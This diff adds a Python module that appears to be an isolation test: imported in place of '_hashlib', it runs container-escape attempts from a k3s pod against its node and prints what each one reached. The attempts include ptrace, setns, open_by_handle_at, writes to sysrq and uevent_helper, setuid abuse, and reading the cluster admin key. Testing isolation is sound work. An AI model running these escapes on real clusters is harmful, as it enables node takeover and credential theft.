@@ -1,0 +1,202 @@
+"""Attempts to break out of a pod with / of its node at /host, by its program after somebody took it over.
+
+An image has this file in place of a module that a report as JSON needs; see taken_over.py. Each attempt runs in its own
+process, and prints a line: its name, a tab, and what it reached. Nothing or another tab follows if it was refused.
+"""
+
+from __future__ import annotations
+
+import ctypes
+import os
+import signal
+import socket
+import stat
+import subprocess
+from contextlib import suppress
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:
+    from collections.abc import Callable, Iterator
+
+BUS, FIFO, AS_ROOT = "/run/dbus/system_bus_socket", "/run/initctl", "/srv/as-root"
+ABSTRACT = "\0of-the-node"
+SUPERVISOR, KUBELET = 6443, 10250
+OF_ROOT, OF_EVERYBODY = "/var/lib/kubelet/of-root", "/var/lib/kubelet/of-everybody"
+"""A file and a directory on the file system of the pod's file for its last message, which the pod can write."""
+TARGETS = "/srv/targets"
+"""A file with the id of the process that is attacked, the address of the node, and the handles of OF_ROOT and
+OF_EVERYBODY: the number of a file and its generation, which a pod can also guess."""
+
+_HOST = Path("/host")
+_LIBC = ctypes.CDLL(None, use_errno=True)
+_KEY = "var/lib/rancher/k3s/server/tls/client-admin.key"
+_SEARCHED = ("etc", "run", "srv", "tmp", "var/lib/kubelet", "var/lib/rancher")
+_KINDS = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET)
+_KERNEL_FILES = ("/proc/sys/kernel/panic", "/proc/sysrq-trigger", "/sys/power/state", "/sys/kernel/uevent_helper")
+_SEIZE, _NEW_USER, _REMOUNT = 0x4206, 0x10000000, 0x1020
+_SEND_SIGNAL = 424
+NAME_TO_HANDLE_AT, _OPEN_BY_HANDLE_AT = (303, 304) if os.uname().machine == "x86_64" else (264, 265)
+
+
+def call(function: str, *words: object) -> int:
+    """Call a function of the C library."""
+    done: int = getattr(_LIBC, function)(*words)
+    if done < 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    return done
+
+
+def of_node(path: str) -> Path:
+    return _HOST / path.lstrip("/")
+
+
+def process(name: str = "") -> Path:
+    """Return a file about the process that is attacked."""
+    return _HOST / "proc" / targets()[0] / name
+
+
+def targets() -> list[str]:
+    return of_node(TARGETS).read_text(encoding="ascii").split()
+
+
+def sockets(*, of_everybody: bool) -> Iterator[str]:
+    """Yield the sockets that everybody can write, or all others, that accept a connection."""
+    for directory, below, names in (found for top in _SEARCHED for found in os.walk(_HOST / top)):
+        below[:] = [name for name in below if name != "rootfs"]  # the root directory of a container
+        for path in (Path(directory, name) for name in names):
+            with suppress(FileNotFoundError):
+                mode = path.lstat().st_mode
+                if stat.S_ISSOCK(mode) and bool(mode & stat.S_IWOTH) == of_everybody and connects(path):
+                    yield str(path).removeprefix(str(_HOST))
+
+
+def connects(path: Path) -> bool:
+    """Return whether a socket accepts a connection; its path can be too long for an address."""
+    directory = os.open(path.parent, os.O_PATH)
+    for kind in _KINDS:
+        with suppress(OSError), socket.socket(socket.AF_UNIX, kind) as client:
+            client.settimeout(1)
+            client.connect(f"/proc/self/fd/{directory}/{path.name}")
+            return True
+    return False
+
+
+def bus_as_root() -> str:
+    """Return `root` if the bus sees this process as root."""
+    with socket.socket(socket.AF_UNIX) as client:
+        client.connect(str(of_node(BUS)))
+        return "root" if client.recv(20) == b"0" else ""
+
+
+def abstract_socket() -> str:
+    with socket.socket(socket.AF_UNIX) as client:
+        client.connect(ABSTRACT)
+    return "connected"
+
+
+def ports() -> Iterator[str]:
+    for port in (SUPERVISOR, KUBELET):
+        with suppress(OSError), socket.create_connection((targets()[1], port), timeout=2):
+            yield str(port)
+
+
+def signal_by_descriptor() -> int:
+    return call("syscall", _SEND_SIGNAL, os.open(process(), os.O_RDONLY), int(signal.SIGCONT), None, 0)
+
+
+def mounts() -> Iterator[str]:
+    """Yield the mounts in which a file can be created, or which are a regular file that can be written."""
+    lines = Path("/proc/self/mountinfo").read_text(encoding="utf-8").splitlines()
+    for point in sorted({Path(line.split()[4].replace("\\040", " ")) for line in lines}):
+        with suppress(OSError):
+            if point.is_dir():
+                created = point / "of-a-pod"
+                created.touch(exist_ok=False)
+                created.unlink()
+            elif point.is_file():
+                os.close(os.open(point, os.O_WRONLY))
+            else:
+                continue
+            yield str(point)
+
+
+def kernel_files() -> Iterator[str]:
+    for path in (f"{top}{name}" for top in ("", _HOST) for name in _KERNEL_FILES):
+        with suppress(OSError):
+            os.close(os.open(path, os.O_WRONLY))
+            yield path
+
+
+def control_group() -> Path:
+    groups = [_HOST / "sys/fs/cgroup" / name for name in ("", "pids")]
+    created = next(group for group in groups if (group / "cgroup.procs").exists()) / "of-a-pod"
+    created.mkdir()
+    created.rmdir()
+    return created
+
+
+def open_by_handle(handle: str, flags: int) -> int:
+    """Open a file of the node through a mount that the pod can write."""
+    mount = os.open("/dev/termination-log", os.O_RDONLY)
+    return call("syscall", _OPEN_BY_HANDLE_AT, mount, bytes.fromhex(handle), flags)
+
+
+def directory_by_handle() -> str:
+    directory = open_by_handle(targets()[3], os.O_RDONLY | os.O_DIRECTORY)
+    os.close(os.open("of-a-pod", os.O_CREAT | os.O_WRONLY, dir_fd=directory))
+    return "written"
+
+
+def set_user() -> str:
+    """Run a static program of the node that belongs to root and has the mode 4755."""
+    done = subprocess.run((of_node(AS_ROOT), "cat", "/proc/self/status"), capture_output=True, check=True)
+    _, effective, *_ = done.stdout.split(b"Uid:")[1].split()
+    return "root" if effective == b"0" else ""
+
+
+ATTEMPTS: dict[str, Callable[[], object]] = {
+    "socket of root": lambda: " ".join(sockets(of_everybody=False)),
+    "socket of everybody": lambda: " ".join(sockets(of_everybody=True)),
+    "bus as root": bus_as_root,
+    "abstract socket": abstract_socket,
+    "port": lambda: " ".join(ports()),
+    "signal": lambda: os.kill(int(process().name), signal.SIGCONT),
+    "signal by descriptor": signal_by_descriptor,
+    "ptrace": lambda: call("ptrace", _SEIZE, int(process().name), None, None),
+    "memory": lambda: os.open(process("mem"), os.O_RDWR),
+    "variables": lambda: process("environ").read_bytes()[:20],
+    "root of a process": lambda: len(list(process("root").iterdir())),
+    "namespace": lambda: call("setns", os.open(_HOST / "proc/1/ns/mnt", os.O_RDONLY), 0),
+    "user namespace": lambda: call("unshare", _NEW_USER),
+    "chroot": lambda: os.chroot(_HOST),
+    "remount": lambda: call("mount", b"none", os.fsencode(_HOST), None, _REMOUNT, None),
+    "mount": lambda: " ".join(mounts()),
+    "kernel": lambda: " ".join(kernel_files()),
+    "control group": control_group,
+    "file by handle": lambda: open_by_handle(targets()[2], os.O_WRONLY),
+    "directory by handle": directory_by_handle,
+    "fifo": lambda: os.write(os.open(of_node(FIFO), os.O_WRONLY | os.O_NONBLOCK), b"\n"),
+    "device": lambda: os.open(of_node("/dev/kmsg"), os.O_WRONLY),
+    "set-user-ID program": set_user,
+    "key": lambda: (_HOST / _KEY).read_text(encoding="ascii").splitlines()[0],
+}
+
+
+def main() -> None:
+    """Run all attempts, and end the program that was taken over."""
+    for name, attempt in ATTEMPTS.items():
+        child = os.fork()
+        if not child:
+            try:
+                reached = str(attempt())
+            except Exception as error:  # noqa: BLE001 - any error is a refusal
+                reached = f"\t{error!r}"
+            os.write(1, f"{name}\t{reached}\n".encode())
+            os._exit(0)
+        os.waitpid(child, 0)
+    os._exit(0)
+
+
+if __name__ == "_hashlib":
+    main()
